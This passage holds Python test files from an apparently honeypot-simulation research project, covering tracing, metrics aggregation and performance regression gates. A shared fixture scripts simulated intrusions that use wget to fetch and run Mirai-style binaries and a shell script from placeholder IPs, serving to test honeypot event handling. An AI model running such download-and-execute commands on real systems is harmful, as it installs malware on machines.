        assert chrome_trace_events([]) == []

    def test_timeline_single_event(self):
        text = render_timeline(self._one_event())
        assert "1 traces, 1 stamped events" in text
        assert "solo" in text and "n=1" in text

    def test_chrome_single_event(self):
        out = chrome_trace_events(self._one_event())
        assert [e["ph"] for e in out] == ["X", "i"]
        slice_ = out[0]
        assert slice_["name"] == "solo"
        assert slice_["dur"] == 1.0  # zero-length span keeps a visible dur

    def test_timeline_identical_after_strip_volatile(self):
        t = Tracer()
        with t.context("alpha"):
            t.emit("one", sim_time=0.0)
            t.emit("two", sim_time=10.0)
        t.emit("three", trace_id="beta", sim_time=5.0)
        events = t.to_list()
        stripped = [strip_volatile(e) for e in events]
        # The timeline only reads logical fields, so a volatile-stripped
        # trace (no seq/wall/shard) must render byte-identically.
        assert render_timeline(stripped) == render_timeline(events)

    def test_chrome_works_on_stripped_events(self):
        t = Tracer()
        t.emit("one", trace_id="alpha", sim_time=0.0)
        t.emit("two", trace_id="alpha", sim_time=2.0)
        events = [strip_volatile(e) for e in t.to_list()]
        out = chrome_trace_events(events)
        slices = [e for e in out if e["ph"] == "X"]
        assert len(slices) == 1
        assert slices[0]["pid"] == 0  # shard provenance stripped -> pid 0
        assert slices[0]["dur"] == pytest.approx(2e6)

    def test_heartbeat_events_strippable_before_export(self):
        t = Tracer()
        t.emit("sched.task.done", trace_id="sched:bg:k:0", sim_time=1.0)
        t.emit("sched.heartbeat.worker", trace_id="sched.worker:pool-0",
               sim_time=2.0, worker="pool-0", beat=1)
        kept = strip_volatile_events(t.to_list())
        assert [e["kind"] for e in kept] == ["sched.task.done"]
        assert "sched.worker:pool-0" not in render_timeline(kept)


class TestInstrumentedPaths:
    def test_session_events_carry_session_trace_id(self):
        from repro.honeypot.honeypot import Honeypot, HoneypotConfig
        from repro.honeypot.session import SessionConfig

        pot = Honeypot(HoneypotConfig(
            honeypot_id="hp-test", ip=0x01020304, country="US", asn=1,
            session_config=SessionConfig()))
        tracer = Tracer()
        with use_tracer(tracer):
            session = pot.accept(0x05060708, 40000, 22, now=0.0)
            session.try_login("root", "root", now=1.0)  # rejected password
            session.try_login("root", "password", now=2.0)
            session.input_line("uname -a", now=3.0)
            session.client_disconnect(4.0)
        events = tracer.to_list()
        assert validate_trace(events) == []
        kinds = [e["kind"] for e in events]
        assert kinds == [
            "honeypot.session.connect",
            "honeypot.login.failed",
            "honeypot.login.success",
            "honeypot.command.input",
            "honeypot.session.closed",
        ]
        expected = f"session:{session.session_id}"
        assert {e["trace_id"] for e in events} == {expected}
        assert all(e["data"]["sensor"] == "hp-test" for e in events)

    def test_engine_dispatch_reenters_schedule_time_context(self):
        from repro.simulation.engine import SimulationEngine

        tracer = Tracer()
        order = []
        with use_tracer(tracer):
            engine = SimulationEngine()
            with tracer.context("conn-a"):
                engine.schedule_at(2.0, lambda: order.append("a"), label="a")
            with tracer.context("conn-b"):
                engine.schedule_at(1.0, lambda: order.append("b"), label="b")
            cancelled = engine.schedule_at(3.0, lambda: order.append("c"))
            cancelled.cancel()
            engine.run()
        assert order == ["b", "a"]
        dispatches = [e for e in tracer.to_list()
                      if e["kind"] == "engine.dispatch"]
        assert [(e["trace_id"], e["ts"]) for e in dispatches] == [
            ("conn-b", 1.0), ("conn-a", 2.0)]
        cancels = [e for e in tracer.to_list()
                   if e["kind"] == "engine.cancel"]
        assert len(cancels) == 1

    def test_untraced_run_emits_nothing(self):
        from repro.simulation.engine import SimulationEngine

        with use_tracer(None):
            engine = SimulationEngine()
            engine.schedule_at(1.0, lambda: None)
            engine.run()
            assert get_tracer() is None


class TestWorkerCountInvariance:
    """The tentpole contract: traces are identical for every worker count.

    Per-trace event sequences (minus ``seq``/``wall``/``shard`` — the
    volatile fields) must match between workers=1 and workers=2; the only
    permitted difference is run metadata (the ``workers`` field of the
    untraced ``generate.merged`` event).
    """

    @pytest.fixture(scope="class")
    def traces(self):
        import repro.workload.shards as shards
        from repro.obs import use_metrics
        from repro.workload import ScenarioConfig
        from repro.workload.shards import generate_sharded

        config = ScenarioConfig(scale=1 / 40000, seed=7, hash_scale=0.004)
        out = {}
        for workers in (1, 2):
            shards._PLAN = None
            tracer = Tracer(capacity=1 << 20)
            with use_metrics(), use_tracer(tracer):
                generate_sharded(config, workers=workers)
            out[workers] = tracer.to_list()
        return out

    def test_traces_are_schema_valid(self, traces):
        for workers, events in traces.items():
            assert events, f"workers={workers} recorded nothing"
            assert validate_trace(events) == []

    def test_per_trace_sequences_match(self, traces):
        normal = {}
        for workers, events in traces.items():
            # Heartbeats are volatile *as a kind*: per-worker liveness is
            # real operational signal but is never worker-count-invariant.
            events = strip_volatile_events(events)
            normal[workers] = {
                tid: [strip_volatile(e) for e in evs]
                for tid, evs in group_by_trace(events).items()
                if tid is not None
            }
        assert set(normal[1]) == set(normal[2])
        for tid in normal[1]:
            assert normal[1][tid] == normal[2][tid], f"trace {tid} diverged"

    def test_only_run_metadata_differs_untraced(self, traces):
        def untraced(events):
            out = []
            for e in group_by_trace(events).get(None, []):
                e = strip_volatile(e)
                data = dict(e.get("data", {}))
                data.pop("workers", None)
                e["data"] = data
                out.append(e)
            return out

        assert untraced(traces[1]) == untraced(traces[2])

    def test_shard_provenance_attached_under_workers(self, traces):
        for events in traces.values():
            with_shard = [e for e in events if "shard" in e]
            assert with_shard
            for e in with_shard:
                assert set(e["shard"]) >= {"index", "kind", "key"}


class TestTrajectory:
    def _metrics(self, sessions=1000, wall=2.0):
        return {
            "counters": {"store.sessions_appended": sessions},
            "spans": {
                "generate": {"count": 1, "wall": wall, "cpu": wall},
                "generate/emit": {"count": 1, "wall": wall * 0.8,
                                  "cpu": wall * 0.8},
                "generate/emit/shard/bg_cmd": {"count": 5, "wall": 0.5,
                                               "cpu": 0.5},
                "report": {"count": 1, "wall": 0.1, "cpu": 0.1},
            },
        }

    def test_append_and_load_round_trip(self, tmp_path):
        from repro.obs.trajectory import append_record, load_trajectory

        path = tmp_path / "traj.json"
        record = append_record(path, self._metrics(), commit="abc1234",
                               context={"scale": "40000"})
        assert record["sessions_per_second"] == pytest.approx(500.0)
        assert record["commit"] == "abc1234"
        assert record["context"] == {"scale": "40000"}
        # depth<=2 stage spans only: the shard leaf is excluded.
        assert "generate/emit" in record["stage_seconds"]
        assert "generate/emit/shard/bg_cmd" not in record["stage_seconds"]
        [loaded] = load_trajectory(path)
        assert loaded == json.loads(json.dumps(record))

    def test_regression_detected_beyond_threshold(self, tmp_path):
        from repro.obs.trajectory import (
            append_record,
            check_regression,
            load_trajectory,
        )

        path = tmp_path / "traj.json"
        append_record(path, self._metrics(sessions=1000, wall=1.0), commit="a")
        append_record(path, self._metrics(sessions=1000, wall=2.0), commit="b")
        message = check_regression(load_trajectory(path), threshold=0.2)
        assert message is not None and "regressed" in message

    def test_small_slowdown_passes(self, tmp_path):
        from repro.obs.trajectory import (
            append_record,
            check_regression,
            load_trajectory,
        )

        path = tmp_path / "traj.json"
        append_record(path, self._metrics(wall=1.0), commit="a")
        append_record(path, self._metrics(wall=1.1), commit="b")
        assert check_regression(load_trajectory(path), threshold=0.2) is None

    def test_non_generation_runs_never_compare(self, tmp_path):
        from repro.obs.trajectory import (
            append_record,
            check_regression,
            load_trajectory,
        )

        path = tmp_path / "traj.json"
        append_record(path, self._metrics(wall=1.0), commit="a")
        append_record(path, {"counters": {}, "spans": {}}, commit="b")
        records = load_trajectory(path)
        assert records[-1]["sessions_per_second"] is None
        assert check_regression(records, threshold=0.2) is None

    def test_cli_appends_and_gates(self, tmp_path, capsys):
        from repro.obs import dump_json
        from repro.obs.trajectory import main

        metrics_path = tmp_path / "m.json"
        out_path = tmp_path / "traj.json"
        m = Metrics()
        m.inc("store.sessions_appended", 100)
        with m.span("generate"):
            pass
        m.spans["generate"]["wall"] = 0.5
        dump_json(m, str(metrics_path))
        assert main(["--metrics", str(metrics_path), "--out", str(out_path),
                     "--commit", "c1", "--context", "scale=40000",
                     "--fail-threshold", "0.2"]) == 0
        # A second run 10x slower under the same context trips the gate.
        m.spans["generate"]["wall"] = 5.0
        dump_json(m, str(metrics_path))
        assert main(["--metrics", str(metrics_path), "--out", str(out_path),
                     "--commit", "c2", "--context", "scale=40000",
                     "--fail-threshold", "0.2"]) == 1
        assert "REGRESSION" in capsys.readouterr().out

    def test_records_label_what_they_measure(self, tmp_path):
        from repro.obs.trajectory import append_record

        path = tmp_path / "traj.json"
        record = append_record(path, self._metrics(), commit="a")
        assert record["measures"] == ["sessions_per_second"]
        streaming = self._metrics()
        streaming["counters"]["sketch.events_consumed"] = 5000
        streaming["spans"]["sketch/ingest"] = {"count": 1, "wall": 0.5,
                                               "cpu": 0.5}
        record = append_record(path, streaming, commit="b")
        assert record["measures"] == ["sessions_per_second",
                                      "streaming_events_per_second"]
        sketch_only = {
            "counters": {"sketch.events_consumed": 5000},
            "spans": {"sketch/ingest": {"count": 1, "wall": 0.5, "cpu": 0.5}},
        }
        record = append_record(path, sketch_only, commit="c")
        assert record["measures"] == ["streaming_events_per_second"]
        assert record["sessions_per_second"] is None

    def test_regression_gate_is_context_aware(self, tmp_path):
        from repro.obs.trajectory import (
            append_record,
            check_regression,
            load_trajectory,
        )

        path = tmp_path / "traj.json"
        scalar = {"scale": "4000", "workers": "1", "backend": "inline",
                  "emit_path": "scalar"}
        block = dict(scalar, emit_path="block")
        append_record(path, self._metrics(wall=1.0), commit="a",
                      context=scalar)
        # A 10x-slower run under a DIFFERENT context starts its own
        # series: the scalar reference must never gate the block path.
        append_record(path, self._metrics(wall=10.0), commit="b",
                      context=block)
        assert check_regression(load_trajectory(path), threshold=0.2) is None
        # ... but the same context does compare.
        append_record(path, self._metrics(wall=100.0), commit="c",
                      context=block)
        message = check_regression(load_trajectory(path), threshold=0.2)
        assert message is not None and "regressed" in message
        assert "block" in message

    def test_missing_emit_path_reads_as_scalar(self, tmp_path):
        from repro.obs.trajectory import (
            append_record,
            check_regression,
            load_trajectory,
        )

        path = tmp_path / "traj.json"
        ctx = {"scale": "40000", "workers": "2", "backend": "pool"}
        # Records written before the block engine existed carry no
        # emit_path; an explicit emit_path=scalar row continues their
        # series.
        append_record(path, self._metrics(wall=1.0), commit="old",
                      context=ctx)
        append_record(path, self._metrics(wall=10.0), commit="new",
                      context=dict(ctx, emit_path="scalar"))
        message = check_regression(load_trajectory(path), threshold=0.2)
        assert message is not None and "regressed" in message
