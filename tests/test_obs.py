"""Unit tests for the observability layer (``repro.obs``).

Covers the registry instruments (counters, gauges, histograms, timers,
spans), serialisation round-trips, merge semantics, and the multiprocess
contract: shard metrics recorded by workers must merge to the same
session/draw totals no matter how many workers emitted them.
"""

from __future__ import annotations

import json

import pytest

from repro.obs import (
    Histogram,
    Metrics,
    get_metrics,
    inc,
    render,
    use_metrics,
)


class TestCounters:
    def test_inc_accumulates(self):
        m = Metrics()
        m.inc("a")
        m.inc("a", 4)
        assert m.counter("a") == 5
        assert m.counter("never-touched") == 0

    def test_module_level_inc_targets_current_registry(self):
        with use_metrics() as m:
            inc("hot", 3)
            assert m.counter("hot") == 3
        assert get_metrics().counter("hot") == 0


class TestGauges:
    def test_set_overwrites(self):
        m = Metrics()
        m.gauge_set("g", 5)
        m.gauge_set("g", 2)
        assert m.gauges["g"] == 2.0

    def test_max_keeps_high_water_mark(self):
        m = Metrics()
        m.gauge_max("depth", 3)
        m.gauge_max("depth", 9)
        m.gauge_max("depth", 4)
        assert m.gauges["depth"] == 9.0


class TestHistogram:
    def test_summary_stats(self):
        h = Histogram()
        for v in range(1, 11):
            h.observe(v)
        assert h.count == 10
        assert h.total == 55.0
        assert h.mean == 5.5
        assert h.max == 10.0

    def test_interpolated_percentiles(self):
        h = Histogram(list(range(1, 11)))  # 1..10
        assert h.percentile(0) == 1.0
        assert h.percentile(50) == pytest.approx(5.5)
        assert h.percentile(90) == pytest.approx(9.1)
        assert h.percentile(100) == 10.0

    def test_empty_histogram_is_all_zero(self):
        h = Histogram()
        assert (h.count, h.total, h.mean, h.max, h.percentile(50)) == (
            0, 0.0, 0.0, 0.0, 0.0)

    def test_merge_is_observation_concat(self):
        a, b = Histogram([1.0, 3.0]), Histogram([2.0])
        a.merge(b)
        assert sorted(a.values) == [1.0, 2.0, 3.0]

    def test_timer_observes_seconds(self):
        m = Metrics()
        with m.timer("t"):
            pass
        with m.timer("t"):
            pass
        h = m.histograms["t"]
        assert h.count == 2
        assert all(v >= 0 for v in h.values)


class TestHistogramReservoirCap:
    """The optional cap: bounded samples, exact scalars, estimated tails."""

    def test_uncapped_default_keeps_everything(self):
        h = Histogram()
        for v in range(10_000):
            h.observe(v)
        assert len(h.values) == 10_000
        assert h.cap is None

    def test_cap_bounds_the_sample_list(self):
        h = Histogram(cap=64)
        for v in range(10_000):
            h.observe(v)
        assert len(h.values) == 64

    def test_scalars_stay_exact_under_cap(self):
        h = Histogram(cap=16)
        for v in range(1, 1001):
            h.observe(float(v))
        assert h.count == 1000
        assert h.total == 500500.0
        assert h.mean == 500.5
        assert h.max == 1000.0

    def test_reservoir_is_representative(self):
        # Uniform stream 0..9999: the reservoir's median should estimate
        # the true median within a loose tolerance.
        h = Histogram(cap=512)
        for v in range(10_000):
            h.observe(float(v))
        assert h.percentile(50) == pytest.approx(5000, rel=0.25)

    def test_reservoir_is_deterministic(self):
        def build():
            h = Histogram(cap=32)
            for v in range(1000):
                h.observe(float(v))
            return h.values

        assert build() == build()

    def test_below_cap_behaves_exactly(self):
        exact, capped = Histogram(), Histogram(cap=100)
        for v in (3.0, 1.0, 2.0):
            exact.observe(v)
            capped.observe(v)
        assert capped.values == exact.values
        assert capped.percentile(50) == exact.percentile(50)

    def test_uncapped_payload_is_bare_list(self):
        h = Histogram([1.0, 2.0])
        assert h.to_payload() == [1.0, 2.0]

    def test_capped_payload_carries_exact_scalars(self):
        h = Histogram(cap=4)
        for v in range(1, 11):
            h.observe(float(v))
        payload = h.to_payload()
        assert payload["cap"] == 4
        assert payload["count"] == 10
        assert payload["total"] == 55.0
        assert payload["max"] == 10.0
        assert len(payload["values"]) == 4

    def test_merge_capped_into_uncapped_adopts_cap(self):
        capped = Histogram(cap=8)
        for v in range(100):
            capped.observe(float(v))
        plain = Histogram([1000.0, 2000.0])
        plain.merge(capped)
        assert plain.cap == 8
        assert len(plain.values) <= 8
        assert plain.count == 102
        assert plain.total == pytest.approx(sum(range(100)) + 3000.0)
        assert plain.max == 2000.0

    def test_merge_list_into_capped_keeps_exact_scalars(self):
        h = Histogram(cap=4)
        for v in range(1, 6):
            h.observe(float(v))
        h.merge_payload([10.0, 20.0])
        assert h.count == 7
        assert h.total == 45.0
        assert h.max == 20.0
        assert len(h.values) <= 4

    def test_registry_histogram_accessor_applies_cap_once(self):
        m = Metrics()
        first = m.histogram("h", cap=8)
        second = m.histogram("h", cap=999)  # existing instrument wins
        assert first is second
        assert first.cap == 8

    def test_uncapped_serialisation_unchanged_by_the_feature(self):
        # The uncapped payload stays a bare list: dict round-trips written
        # by earlier versions of the registry still load.
        m = Metrics()
        m.observe("h", 1.0)
        m.observe("h", 2.5)
        assert m.to_dict()["histograms"]["h"] == [1.0, 2.5]
        clone = Metrics.from_dict(m.to_dict())
        assert clone.histograms["h"].values == [1.0, 2.5]
        assert clone.histograms["h"].cap is None


class TestSpans:
    def test_nesting_builds_slash_paths(self):
        m = Metrics()
        with m.span("outer"):
            with m.span("inner"):
                pass
            with m.span("inner"):
                pass
        assert set(m.spans) == {"outer", "outer/inner"}
        assert m.spans["outer"]["count"] == 1
        assert m.spans["outer/inner"]["count"] == 2
        assert m.spans["outer"]["wall"] >= m.spans["outer/inner"]["wall"]

    def test_exception_still_records_and_pops(self):
        m = Metrics()
        with pytest.raises(RuntimeError):
            with m.span("failing"):
                raise RuntimeError("boom")
        assert m.spans["failing"]["count"] == 1
        with m.span("after"):
            pass
        assert "after" in m.spans  # not "failing/after": stack unwound


class TestSerialisation:
    def _populated(self) -> Metrics:
        m = Metrics()
        m.inc("c", 7)
        m.gauge_set("g", 2.5)
        m.observe("h", 1.0)
        m.observe("h", 3.0)
        with m.span("s"):
            with m.span("t"):
                pass
        return m

    def test_round_trip(self):
        m = self._populated()
        clone = Metrics.from_dict(m.to_dict())
        assert clone.to_dict() == m.to_dict()

    def test_dict_form_is_json_serialisable(self):
        m = self._populated()
        restored = json.loads(json.dumps(m.to_dict()))
        assert Metrics.from_dict(restored).to_dict() == m.to_dict()

    def test_render_mentions_every_section(self):
        text = render(self._populated())
        for fragment in ("stage timings", "counters", "gauges",
                         "histograms", "s", "  t", "c", "g", "h"):
            assert fragment in text


class TestMerge:
    def test_counters_sum_gauges_max_histograms_concat(self):
        a, b = Metrics(), Metrics()
        a.inc("c", 2)
        b.inc("c", 3)
        b.inc("only-b", 1)
        a.gauge_max("g", 5)
        b.gauge_max("g", 4)
        a.observe("h", 1.0)
        b.observe("h", 2.0)
        a.merge(b)
        assert a.counter("c") == 5
        assert a.counter("only-b") == 1
        assert a.gauges["g"] == 5.0
        assert sorted(a.histograms["h"].values) == [1.0, 2.0]

    def test_span_cells_sum(self):
        a, b = Metrics(), Metrics()
        with a.span("work"):
            pass
        with b.span("work"):
            pass
        a.merge(b)
        assert a.spans["work"]["count"] == 2

    def test_span_prefix_reroots_worker_paths(self):
        parent, worker = Metrics(), Metrics()
        with worker.span("shard"):
            with worker.span("campaign"):
                pass
        parent.merge(worker.to_dict(), span_prefix="generate/emit")
        assert set(parent.spans) == {
            "generate/emit/shard", "generate/emit/shard/campaign"}

    def test_rerooted_paths_collide_with_real_spans_by_summing(self):
        # The parent really entered generate/emit; the worker's re-rooted
        # "emit" tree lands on the same paths and must sum, not replace.
        parent, worker = Metrics(), Metrics()
        with parent.span("generate"):
            with parent.span("emit"):
                pass
        with worker.span("emit"):
            pass
        parent.merge(worker.to_dict(), span_prefix="generate")
        assert parent.spans["generate/emit"]["count"] == 2
        assert parent.spans["generate"]["count"] == 1

    def test_implicit_parent_not_materialised_by_merge(self):
        # Re-rooting creates deep paths whose ancestors were never entered;
        # merge must not invent span cells for them (the renderer
        # synthesises implicit nodes at display time instead).
        parent, worker = Metrics(), Metrics()
        with worker.span("shard"):
            with worker.span("campaign"):
                pass
        parent.merge(worker.to_dict(), span_prefix="generate/emit")
        assert "generate" not in parent.spans
        assert "generate/emit" not in parent.spans
        assert parent.spans["generate/emit/shard"]["count"] == 1

    def test_real_span_entered_after_implicit_children_merged(self):
        # Order of arrival must not matter: worker paths first, then the
        # parent genuinely enters the ancestor path.
        parent, worker = Metrics(), Metrics()
        with worker.span("shard"):
            pass
        parent.merge(worker.to_dict(), span_prefix="generate/emit")
        with parent.span("generate"):
            with parent.span("emit"):
                pass
        assert parent.spans["generate/emit"]["count"] == 1
        assert parent.spans["generate/emit/shard"]["count"] == 1

    def test_render_does_not_double_count_real_parents(self):
        from repro.obs.export import _span_tree

        parent, worker = Metrics(), Metrics()
        with parent.span("generate"):
            with parent.span("emit"):
                pass
        real_wall = parent.spans["generate"]["wall"]
        with worker.span("shard"):
            pass
        parent.merge(worker.to_dict(), span_prefix="generate/emit")
        nodes, children, roots = _span_tree(parent.spans)
        # "generate" was really entered: its wall stays measured, not
        # re-aggregated from children.
        assert nodes["generate"]["wall"] == real_wall
        # The implicit "generate/emit/shard" parent chain renders under it.
        assert "generate/emit/shard" in children["generate/emit"]

    def test_render_aggregates_implicit_parents_once(self):
        from repro.obs.export import _span_tree

        parent, worker = Metrics(), Metrics()
        with worker.span("shard"):
            pass
        worker.spans["shard"]["wall"] = 2.0
        worker2 = Metrics()
        with worker2.span("shard"):
            pass
        worker2.spans["shard"]["wall"] = 3.0
        parent.merge(worker.to_dict(), span_prefix="generate/emit")
        parent.merge(worker2.to_dict(), span_prefix="generate/emit")
        nodes, _children, _roots = _span_tree(parent.spans)
        # Implicit chain generate -> emit -> shard: each level shows the
        # 5.0s total exactly once.
        assert nodes["generate/emit/shard"]["wall"] == pytest.approx(5.0)
        assert nodes["generate/emit"]["wall"] == pytest.approx(5.0)
        assert nodes["generate"]["wall"] == pytest.approx(5.0)

    def test_merge_accepts_dict_or_metrics(self):
        a, b = Metrics(), Metrics()
        b.inc("x")
        a.merge(b)
        a.merge(b.to_dict())
        assert a.counter("x") == 2

    def test_delta_since_reports_only_movement(self):
        m = Metrics()
        m.inc("before", 1)
        with m.span("old"):
            pass
        snapshot = m.to_dict()
        m.inc("before", 2)
        m.inc("fresh", 1)
        with m.span("new"):
            pass
        delta = m.delta_since(snapshot)
        assert delta["counters"] == {"before": 2, "fresh": 1}
        assert set(delta["spans"]) == {"new"}
        assert delta["spans"]["new"]["count"] == 1


class TestUseMetrics:
    def test_swaps_and_restores(self):
        outer = get_metrics()
        with use_metrics() as inner:
            assert get_metrics() is inner
            assert inner is not outer
        assert get_metrics() is outer

    def test_restores_on_exception(self):
        outer = get_metrics()
        with pytest.raises(ValueError):
            with use_metrics():
                raise ValueError
        assert get_metrics() is outer

    def test_accepts_existing_registry(self):
        mine = Metrics()
        with use_metrics(mine) as active:
            assert active is mine
            inc("k")
        assert mine.counter("k") == 1


class TestWorkerMetricsMerge:
    """The multiprocess contract: shard metrics are worker-count-invariant.

    Each worker records its shard under a fresh registry and ships the
    dict back; the parent folds them in shard order.  The session/draw
    accounting must therefore be identical for every worker count (the
    engine/honeypot profiling counters are excluded: script-profile
    caches are per-process, so a second worker legitimately re-profiles).
    """

    @pytest.fixture(scope="class")
    def runs(self):
        import repro.workload.shards as shards
        from repro.obs import use_metrics
        from repro.workload import ScenarioConfig
        from repro.workload.shards import generate_sharded

        config = ScenarioConfig(scale=1 / 40000, seed=7, hash_scale=0.004)
        out = {}
        for workers in (1, 2):
            shards._PLAN = None  # both runs pay plan construction
            with use_metrics() as metrics:
                dataset = generate_sharded(config, workers=workers)
            out[workers] = (dataset, metrics)
        return out

    @staticmethod
    def _invariant_counters(metrics: Metrics):
        # Excluded: engine/honeypot profiling (script-profile caches are
        # per-process) and the scheduler's physical accounting (pool
        # resizes, retries, straggler duplicates and worker heartbeats
        # vary with the backend).  sched.tasks_submitted/completed stay
        # in: one attempt per shard whatever the worker count.
        return {
            name: value for name, value in metrics.counters.items()
            if not name.startswith((
                "engine.", "honeypot.", "sched.workers_",
                "sched.tasks_retried", "sched.stragglers",
                "sched.duplicates", "sched.heartbeat.",
            ))
        }

    def test_counters_match_across_worker_counts(self, runs):
        assert (self._invariant_counters(runs[1][1])
                == self._invariant_counters(runs[2][1]))

    def test_sessions_appended_equals_store_length(self, runs):
        for dataset, metrics in runs.values():
            assert metrics.counter("store.sessions_appended") == len(dataset.store)

    def test_generator_category_counters_sum_to_store(self, runs):
        for dataset, metrics in runs.values():
            emitted = sum(
                value for name, value in metrics.counters.items()
                if name.startswith("generator.sessions.")
            )
            assert emitted == len(dataset.store)

    def test_rng_draws_match_across_worker_counts(self, runs):
        assert runs[1][1].counter("rng.draws") == runs[2][1].counter("rng.draws")
        assert runs[1][1].counter("rng.draws") > 0

    def test_shard_spans_arrive_under_parent_tree(self, runs):
        for _, metrics in runs.values():
            prefix = "generate/emit/shard/"
            # Direct shard spans only: the block emitter's flush span
            # nests one level below (generate/emit/shard/<kind>/...).
            shard_paths = [p for p in metrics.spans
                           if p.startswith(prefix)
                           and "/" not in p[len(prefix):]]
            assert shard_paths
            assert metrics.spans["generate"]["count"] == 1
            emitted = sum(metrics.spans[p]["count"] for p in shard_paths)
            assert emitted == metrics.counter("shards.emitted")

    def test_shard_gauges_present(self, runs):
        for _, metrics in runs.values():
            assert metrics.gauges["shards.count"] > 0
            assert "shards.queue_wait_seconds" in metrics.gauges
            hist = metrics.histograms["shards.sessions_per_shard"]
            assert hist.count == metrics.counter("shards.emitted")
            assert hist.total == metrics.counter("store.sessions_appended")


class TestStopwatch:
    """Stopwatch is the only sanctioned clock outside the obs layer."""

    def test_elapsed_is_monotone_nonnegative(self):
        from repro.obs import stopwatch

        watch = stopwatch()
        first = watch.elapsed()
        second = watch.elapsed()
        assert first >= 0.0
        assert second >= first

    def test_restart_resets_origin(self):
        from repro.obs import Stopwatch

        watch = Stopwatch()
        for _ in range(10_000):
            pass
        drained = watch.elapsed()
        watch.restart()
        assert watch.elapsed() <= drained + 1.0
