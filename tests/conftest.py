"""Shared fixtures.

The generated dataset is expensive, so integration-flavoured tests share
one small session-scoped trace (~20k sessions, reduced hash budget), and
event-stream consumers (farm health, streaming analytics) share one
recorded live-farm run — cached once per session, handed out as fresh
copies where consumers could mutate.
"""

from __future__ import annotations

import pytest

from repro.workload import ScenarioConfig, generate_dataset


@pytest.fixture(scope="session")
def small_config() -> ScenarioConfig:
    return ScenarioConfig(scale=1 / 20000, seed=99, hash_scale=0.008)


@pytest.fixture(scope="session")
def small_dataset(small_config):
    return generate_dataset(small_config)


@pytest.fixture(scope="session")
def small_store(small_dataset):
    return small_dataset.store


@pytest.fixture(scope="session")
def demo_farm_events():
    """One deterministic LiveFarm run, recorded as HoneypotEvent objects.

    12 scans, 4 scouts and 2 intrusions whose ``wget`` lines drop file
    hashes — every event-consumer code path (auth, commands, downloads,
    close) appears in the stream.  Treat as read-only (session-scoped).
    """
    from repro.farm.live import (
        IntrusionBehavior,
        LiveFarm,
        ScanBehavior,
        ScoutBehavior,
    )
    from repro.obs import use_metrics

    events = []
    with use_metrics():
        farm = LiveFarm(seed=11, n_honeypots=3, event_tap=events.append)
        for i in range(12):
            farm.launch(0x0A000000 + i, i % 3, ScanBehavior(),
                        at=5.0 + 20.0 * i)
        for j in range(4):
            farm.launch(0x0B000000 + j, j % 3, ScoutBehavior(),
                        at=50.0 + 60.0 * j)
        farm.launch(0x0C000001, 0, IntrusionBehavior(lines=(
            "wget http://203.0.113.9/bins/mirai.arm7",
            "chmod +x mirai.arm7",
            "./mirai.arm7",
        )), at=120.0)
        farm.launch(0x0C000002, 1, IntrusionBehavior(lines=(
            "wget http://198.51.100.7/payload/sora.sh",
            "sh sora.sh",
        )), at=260.0)
        farm.run()
        farm.harvest(3600.0)
    return tuple(events)


@pytest.fixture()
def recorded_trace(demo_farm_events):
    """The same demo run as flight-recorder event dicts (fresh copies)."""
    return [
        {"seq": i, "wall": 0.0, "kind": event.event_type.value,
         "trace_id": f"session:{event.session_id}", "ts": event.timestamp,
         "data": {"sensor": event.honeypot_id, "session": event.session_id,
                  **event.data}}
        for i, event in enumerate(demo_farm_events)
    ]
