"""Shared fixtures.

The generated dataset is expensive, so integration-flavoured tests share
one small session-scoped trace (~20k sessions, reduced hash budget).
"""

from __future__ import annotations

import pytest

from repro.workload import ScenarioConfig, generate_dataset


@pytest.fixture(scope="session")
def small_config() -> ScenarioConfig:
    return ScenarioConfig(scale=1 / 20000, seed=99, hash_scale=0.008)


@pytest.fixture(scope="session")
def small_dataset(small_config):
    return generate_dataset(small_config)


@pytest.fixture(scope="session")
def small_store(small_dataset):
    return small_dataset.store
