"""Tests for the session emitter's credential/version samplers."""

import numpy as np
import pytest

from repro.honeypot.auth import AuthPolicy
from repro.simulation.rng import RngStream
from repro.store.store import StoreBuilder
from repro.workload.emit import SessionEmitter


@pytest.fixture
def emitter():
    return SessionEmitter(StoreBuilder(), RngStream(41, "emit"))


class TestSamplers:
    def test_success_passwords_pass_policy(self, emitter):
        rng = RngStream(1, "s")
        policy = AuthPolicy()
        ids = emitter.success_passwords(rng, 300)
        for pid in ids:
            password = emitter.builder.passwords.value_of(int(pid))
            assert policy.check_password("root", password).success

    def test_fail_credentials_fail_policy(self, emitter):
        rng = RngStream(2, "f")
        policy = AuthPolicy()
        users, passwords = emitter.fail_credentials(rng, 300)
        for uid, pid in zip(users, passwords):
            username = emitter.builder.usernames.value_of(int(uid))
            password = emitter.builder.passwords.value_of(int(pid))
            assert not policy.check_password(username, password).success

    def test_fail_credentials_mix_root_and_others(self, emitter):
        rng = RngStream(3, "f")
        users, _ = emitter.fail_credentials(rng, 500)
        names = {emitter.builder.usernames.value_of(int(u)) for u in users}
        assert "root" in names
        assert len(names) > 3

    def test_versions_only_for_ssh(self, emitter):
        rng = RngStream(4, "v")
        protocol = np.array([0, 0, 1, 1], dtype=np.uint8)
        versions = emitter.client_versions(rng, 4, protocol)
        assert (versions[protocol == 1] == -1).all()

    def test_version_offer_rate(self, emitter):
        rng = RngStream(5, "v")
        protocol = np.zeros(2000, dtype=np.uint8)  # all SSH
        versions = emitter.client_versions(rng, 2000, protocol)
        rate = (versions >= 0).mean()
        assert 0.6 < rate < 0.85

    def test_append_block_through_emitter(self, emitter):
        n = 3
        emitter.append_block(
            start_time=np.array([0.0, 1.0, 2.0]),
            duration=np.array([1.0, 1.0, 1.0]),
            honeypot=[emitter.builder.honeypots.intern("h")] * n,
            protocol=np.zeros(n, dtype=np.uint8),
            client_ip=np.array([1, 2, 3], dtype=np.uint32),
            client_asn=np.array([5, 5, 5], dtype=np.int32),
            client_country=np.array(
                [emitter.builder.countries.intern("US")] * n, dtype=np.int32),
            n_attempts=np.zeros(n, dtype=np.uint16),
            login_success=np.zeros(n, dtype=bool),
            script_id=[-1] * n,
            password_id=np.full(n, -1, dtype=np.int32),
            username_id=np.full(n, -1, dtype=np.int32),
            hash_ids=[()] * n,
            close_reason=np.zeros(n, dtype=np.uint8),
            version_id=np.full(n, -1, dtype=np.int32),
        )
        store = emitter.builder.build()
        assert len(store) == 3
        assert store.record(2).client_ip == 3


class TestProtocolConstants:
    def test_protocol_for_port(self):
        from repro.honeypot.protocol import Protocol
        assert Protocol.for_port(22) is Protocol.SSH
        assert Protocol.for_port(23) is Protocol.TELNET
        with pytest.raises(ValueError):
            Protocol.for_port(80)

    def test_banners(self):
        from repro.honeypot.protocol import Protocol
        assert Protocol.SSH.banner.startswith("SSH-2.0-")
        assert "login" in Protocol.TELNET.banner

    def test_ports(self):
